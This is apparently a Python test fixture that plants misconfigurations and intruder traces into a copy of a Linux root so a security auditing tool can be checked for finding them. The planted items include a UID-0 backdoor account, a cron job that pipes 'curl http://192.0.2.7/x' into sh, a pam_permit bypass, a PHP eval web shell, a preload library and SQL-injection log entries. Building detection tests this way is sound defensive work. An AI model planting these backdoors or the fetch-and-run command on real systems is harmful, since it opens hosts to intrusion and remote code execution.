"""Defects as people and intruders leave them, planted in a copy of a real root."""

from __future__ import annotations

import datetime
import gzip
import os
import shutil
import struct
from pathlib import Path

import pytest

HASH = "$6$abcdefgh$" + "A" * 86
"""Of a password that nobody has."""
KNOWN = "$1$saltsalt$T5MN6iR8aoAeg.OHdYqBf0"
"""Of 123456."""


def plant(root: Path) -> None:
    """One defect for each expected finding, as people and intruders leave them."""
    etc = root / "etc"
    _append(etc / "passwd", "toor:x:0:0::/root:/bin/bash\nguest:x:1001:1001::/home/guest:/bin/bash\n")
    _append(etc / "passwd", f"legacy:x:1002:1002::/:/bin/bash\nintern:{HASH}:1003:1003::/:/bin/bash\n")
    _append(
        etc / "shadow",
        f"toor:{HASH}:20000::::::\nguest::20000::::::\nlegacy:{KNOWN}:20000::::::\n",
    )
    (root / "var/backups/shadow.old").write_text(f"root:{HASH}:20000::::::\n")
    (root / "var/backups/shadow.old").chmod(0o644)
    (etc / "shadow").chmod(0o644)
    (etc / "profile").chmod(0o666)
    _write(etc / "ssh/sshd_config.d/10-first.conf", "PermitRootLogin yes\nPermitEmptyPasswords yes\n")
    _write(etc / "ssh/sshd_config.d/20-second.conf", "PermitRootLogin no\n")  # too late: the first value wins
    _write(etc / "sudoers.d/ops", "# operators\nops ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    _write(root / "usr/local/bin/helper", "\x7fELF", 0o4755)
    (root / "usr/bin/find").chmod(0o4755)
    _write(root / "usr/local/sbin/nightly", "#!/bin/sh\n", 0o777)
    _write(etc / "cron.d/nightly", "0 3 * * * root /usr/local/sbin/nightly\n")
    _write(etc / "ld.so.preload", "/usr/lib/libevil.so\n")
    _write(root / "usr/lib/libevil.so", "\x7fELF")
    _write(root / "tmp/.cache/kworker", "\x7fELF", 0o755)
    _write(root / "opt/his/lib/log4j-core-2.14.1.jar", "PK")
    _write(root / "var/www/html/index.html", "<p>")
    for path in (root / "var/www/html", root / "var/www/html/index.html"):
        os.chown(path, 33, 33)
    _write(etc / "redis/redis.conf", "bind 0.0.0.0\nprotected-mode no\n")
    _write(root / "usr/bin/redis-server", "\x7fELF", 0o755)
    (etc / "systemd/system/rsyslog.service").symlink_to("/dev/null")
    _write(etc / "systemd/journald.conf", "[Journal]\nStorage=none\n")
    (etc / "os-release").unlink()
    _write(etc / "os-release", 'ID=debian\nVERSION_ID="9"\nVERSION_CODENAME=stretch\nPRETTY_NAME="Debian 9"\n')


def plant_quietly(root: Path) -> None:
    """What an intruder leaves, and the traces of the way in."""
    os.setxattr(root / "usr/bin/perl", "security.capability", struct.pack("<5I", 2 << 24 | 1, 1 << 7, 0, 0, 0))
    with (root / "usr/bin/ls").open("ab") as file:
        file.write(b"x")
    (root / "usr/local/sbin").chmod(0o777)
    _write(
        root / "etc/nginx/ssl/site.key",
        "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEINTuctv5E1hK1bbY8fdp+K06/nwoy/HU++CXqI9EdVhC\n-----END PRIVATE KEY-----\n",
    )
    _write(root / "etc/cron.d/update", "*/5 * * * * root curl -fsSL http://192.0.2.7/x | sh\n")
    _write(root / "etc/pam.d/sshd", "auth sufficient pam_permit.so\n" + (root / "etc/pam.d/sshd").read_text())
    _write(root / "var/www/html/uploads/a.php", "<?php @eval($_POST['c']); ?>\n")
    now = datetime.datetime.now(datetime.UTC)
    request = f'192.0.2.7 - - [{now:%d/%b/%Y:%H:%M:%S} +0000] "GET {{}} HTTP/1.1" 200 512 "-" "-"\n'
    attempts = (
        "/a?id=1%20union%20select%20user,password%20from%20mysql.user--",
        "/a?q=%3Cscript%3Ealert(1)%3C/script%3E",
    )
    lines = "".join(request.format(path) for path in attempts)
    log = root / "var/log/nginx/access.log.2.gz"
    log.parent.mkdir(parents=True, exist_ok=True)
    log.write_bytes(gzip.compress(lines.encode()))
    failed = "{:%b %d %H}:10:{:02} web sshd[7]: Failed password for root from 192.0.2.9 port 5{:03} ssh2\n"
    _write(
        root / "var/log/auth.log", "".join(failed.format(now - datetime.timedelta(hours=3), n, n) for n in range(60))
    )


def _append(path: Path, text: str) -> None:
    path.write_text(path.read_text() + text)


def _write(path: Path, text: str, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


def give_getcap(root: Path) -> None:
    """The root has no libcap2-bin, without which no shell can tell capabilities: the machine's own program."""
    program = shutil.which("getcap", path="/usr/sbin:/sbin")
    if program is None:
        pytest.skip("getcap is not installed")
    shutil.copy(program, root / "usr/sbin/getcap")
    for library in Path("/usr/lib").glob("*-linux-gnu/libcap.so.2"):
        if not (target := root / str(library)[1:]).exists():
            shutil.copy(library, target)
